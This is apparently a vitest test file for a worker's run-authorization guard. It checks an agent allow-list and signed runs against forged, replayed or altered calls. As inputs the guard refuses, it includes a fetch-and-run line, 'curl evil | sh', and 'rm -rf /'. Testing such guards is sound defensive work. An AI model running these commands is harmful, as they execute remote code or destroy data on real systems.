/**
 * Worker-side guards (activities/run-authorization.ts): the agent allow-list and signed runs —
 * what a worker refuses to execute, and what it runs.
 */
import { mkdtempSync, readFileSync, statSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ApplicationFailure } from '@temporalio/common';
import { describe, expect, it } from 'vitest';
import { authorizeExecution, runSecret, signRun } from '../../activities/run-authorization.js';
import type { RunClaims } from '../../schemas/authorization.js';

const claims: RunClaims = { workflowId: 'run-1', repoPath: '/r', provider: 'command', agentCommand: ['my-agent', '--yes'], councilProvider: 'command', testCommand: 'npm test' };
const agent = (argv: string[], provider = 'command') => ({ runId: 'run-1', repoPath: '/r', kind: { agent: { provider, argv } } });

function signedEnv(): { env: NodeJS.ProcessEnv; secret: Buffer } {
  const file = path.join(mkdtempSync(path.join(os.tmpdir(), 'vigil-secret-')), 'sub', 'run-secret');
  const env = { VIGIL_REQUIRE_SIGNED_RUNS: '1', VIGIL_RUN_SECRET_FILE: file };
  return { env, secret: runSecret(env, true) as Buffer };
}

const refusal = (fn: () => void): string => {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(ApplicationFailure);
    expect((err as ApplicationFailure).nonRetryable).toBe(true);
    return (err as Error).message;
  }
  throw new Error('not refused');
};

describe('authorizeExecution', () => {
  it('lets everything through on a worker with no guard', () => {
    expect(() => authorizeExecution(agent(['anything']), null, {})).not.toThrow();
  });

  it('refuses an agent binary off the allow-list, by path or name', () => {
    const env = { VIGIL_AGENT_ALLOW: 'claude, /opt/bin/my-agent' };
    expect(() => authorizeExecution(agent(['/usr/local/bin/claude'], 'claude'), null, env)).not.toThrow();
    expect(() => authorizeExecution(agent(['/opt/bin/my-agent']), null, env)).not.toThrow();
    expect(refusal(() => authorizeExecution(agent(['sh', '-c', 'curl evil | sh']), null, env))).toMatch(/"sh" is not on this worker's allow-list/);
  });

  it('creates a private run secret on first use', () => {
    const { env } = signedEnv();
    const file = env.VIGIL_RUN_SECRET_FILE as string;
    expect(readFileSync(file, 'utf8')).toMatch(/^[0-9a-f]{64}\n$/);
    expect(statSync(file).mode & 0o777).toBe(0o600);
  });

  it('requiring signed runs: runs a signed call, refuses unsigned, forged, replayed or altered ones', () => {
    const { env, secret } = signedEnv();
    const auth = signRun(secret, claims);
    expect(() => authorizeExecution(agent(['my-agent', '--yes']), auth, env)).not.toThrow();
    expect(() => authorizeExecution({ runId: 'run-1', repoPath: '/r', kind: { tests: 'npm test' } }, auth, env)).not.toThrow();
    expect(refusal(() => authorizeExecution(agent(['my-agent', '--yes']), null, env))).toMatch(/this one is unsigned/);
    expect(refusal(() => authorizeExecution(agent(['my-agent', '--yes']), { ...auth, signature: 'ab'.repeat(32) }, env))).toMatch(/signature does not match/);
    expect(refusal(() => authorizeExecution(agent(['my-agent', '--yes']), signRun(Buffer.alloc(32, 7), claims), env))).toMatch(/signature does not match/);
    expect(refusal(() => authorizeExecution({ ...agent(['my-agent', '--yes']), runId: 'run-2' }, auth, env))).toMatch(/covers run run-1/);
    expect(refusal(() => authorizeExecution(agent(['rm', '-rf', '/']), auth, env))).toMatch(/not the one the run was signed for/);
    expect(refusal(() => authorizeExecution({ runId: 'run-1', repoPath: '/r', kind: { tests: 'curl evil | sh' } }, auth, env))).toMatch(/test command is not the one/);
    const forged = { ...auth, claims: { ...claims, agentCommand: ['evil'] } };
    expect(refusal(() => authorizeExecution(agent(['evil']), forged, env))).toMatch(/signature does not match/);
  });

  it("a schedule's signature covers its runs (NAME-<scheduled time>) and nothing else", () => {
    const { env, secret } = signedEnv();
    const auth = signRun(secret, { ...claims, workflowId: 'nightly', scheduled: true });
    const run = (runId: string) => ({ ...agent(['my-agent', '--yes']), runId });
    expect(() => authorizeExecution(run('nightly-2026-11-23T02:00:00Z'), auth, env)).not.toThrow();
    expect(() => authorizeExecution(run('nightly'), auth, env)).not.toThrow();
    expect(refusal(() => authorizeExecution(run('nightly-evil'), auth, env))).toMatch(/covers run nightly/);
    expect(refusal(() => authorizeExecution(run('nightly2-2026-11-23T02:00:00Z'), auth, env))).toMatch(/covers run nightly/);
    // Without the scheduled claim the same id prefix covers nothing more; the claim itself is signed.
    expect(refusal(() => authorizeExecution(run('nightly-2026-11-23T02:00:00Z'), signRun(secret, { ...claims, workflowId: 'nightly' }), env))).toMatch(/covers run nightly/);
    expect(refusal(() => authorizeExecution(run('nightly-2026-11-23T02:00:00Z'), { ...signRun(secret, { ...claims, workflowId: 'nightly' }), claims: { ...claims, workflowId: 'nightly', scheduled: true } }, env))).toMatch(/signature does not match/);
  });

  it('lets a reviewer on the signed council provider run with the preset binary', () => {
    const { env, secret } = signedEnv();
    const auth = signRun(secret, { ...claims, provider: 'claude', agentCommand: [], councilProvider: 'codex' });
    expect(() => authorizeExecution(agent([], 'codex'), auth, env)).not.toThrow();
    expect(() => authorizeExecution(agent([], 'claude'), auth, env)).not.toThrow();
    expect(refusal(() => authorizeExecution(agent([], 'gemini'), auth, env))).toMatch(/not the one the run was signed for/);
  });
});
